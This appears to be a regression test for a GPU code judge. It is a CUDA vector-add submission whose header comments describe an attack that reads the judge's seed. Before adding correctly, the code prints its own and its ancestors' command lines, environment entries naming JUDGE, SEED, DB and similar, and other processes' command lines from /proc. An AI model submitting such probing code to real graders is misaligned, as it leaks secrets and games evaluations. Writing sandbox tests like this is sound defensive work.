// expect: accepted
// expect-output-lacks: {seed}
// expect-output-lacks: JUDGE_DB
// Attacker's intent: read the seed. Against the old judge the worker took its job (seed included) on its command
// line, and a submission printed it: with the seed every input can be regenerated on the host. This one prints, on
// its first call, what a process can usually read about itself and the processes around it: its own command line
// and environment, its parent's and every ancestor's command line and the entries of their environments that name
// places or secrets (JUDGE_*, HOME, XDG_*, *SEED*, ...), and the command lines of the first 80 processes listed in
// /proc, each shortened: the whole fits in the judge's 64 KiB of captured output, so nothing that matters is cut
// off. Then it adds correctly.
// Harmless when the process that runs the submission is handed neither the seed nor the judge's paths: the report's
// seed appears nowhere in the output, and neither does JUDGE_DB (the judge's environment stays the judge's). It is
// correct, so `accepted`.
#include <cuda_runtime.h>

#include <dirent.h>
#include <fcntl.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

namespace {

std::string slurp(const std::string& path, size_t limit) {
  int fd = open(path.c_str(), O_RDONLY | O_CLOEXEC);
  if (fd < 0) return std::string("(unreadable: ") + std::strerror(errno) + ")";
  std::string out;
  char buf[4096];
  ssize_t n;
  while (out.size() < limit && (n = read(fd, buf, sizeof buf)) > 0) out.append(buf, static_cast<size_t>(n));
  close(fd);
  if (out.size() > limit) out.resize(limit);
  for (char& c : out)
    if (c == '\0') c = ' ';
  return out;
}

int parent_of(int pid) {
  std::string stat = slurp("/proc/" + std::to_string(pid) + "/stat", 4096);
  auto close_paren = stat.rfind(')');
  if (close_paren == std::string::npos) return 0;
  char state;
  int ppid = 0;
  if (std::sscanf(stat.c_str() + close_paren + 1, " %c %d", &state, &ppid) != 2) return 0;
  return ppid;
}

void show(const std::string& path, size_t limit) {
  std::printf("%s: %s\n", path.c_str(), slurp(path, limit).c_str());
}

// An environment's entries that name places or secrets, whole, however long the environment is.
void show_environment(const std::string& path) {
  std::string env = slurp(path, 1 << 20);
  std::string picked;
  size_t at = 0;
  while (at < env.size()) {
    size_t end = env.find(' ', at);  // slurp() turned the separating NULs into spaces
    if (end == std::string::npos) end = env.size();
    std::string kv = env.substr(at, end - at);
    std::string name = kv.substr(0, kv.find('='));
    for (const char* word : {"JUDGE", "HOME", "XDG", "SEED", "TMP", "CACHE", "DB", "CALIBRATION", "USER"})
      if (name.find(word) != std::string::npos) {
        picked += kv + " ";
        break;
      }
    at = end + 1;
  }
  std::printf("%s: %s\n", path.c_str(), env.rfind("(unreadable", 0) == 0 ? env.c_str() : picked.c_str());
}

void print_what_can_be_seen() {
  show("/proc/self/cmdline", 4096);
  show("/proc/self/environ", 8192);
  int depth = 0;
  for (int pid = getppid(); pid > 0 && depth < 8; pid = parent_of(pid), ++depth) {
    const std::string proc = "/proc/" + std::to_string(pid);
    show(proc + "/cmdline", 2048);
    show_environment(proc + "/environ");
    if (pid == 1) break;
  }
  int listed = 0;
  if (DIR* d = opendir("/proc")) {
    while (dirent* e = readdir(d)) {
      if (e->d_name[0] < '1' || e->d_name[0] > '9') continue;
      if (++listed > 80) break;
      show(std::string("/proc/") + e->d_name + "/cmdline", 200);
    }
    closedir(d);
  } else {
    std::printf("/proc: (unlistable: %s)\n", std::strerror(errno));
  }
  std::fflush(stdout);
}

__global__ void add(const float* A, const float* B, float* C, int N) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < N) C[i] = A[i] + B[i];
}

}  // namespace

extern "C" void solve(const float* A, const float* B, float* C, int N) {
  static bool printed = false;
  if (!printed) {
    printed = true;
    print_what_can_be_seen();
  }
  add<<<(N + 255) / 256, 256>>>(A, B, C, N);
  cudaDeviceSynchronize();
}
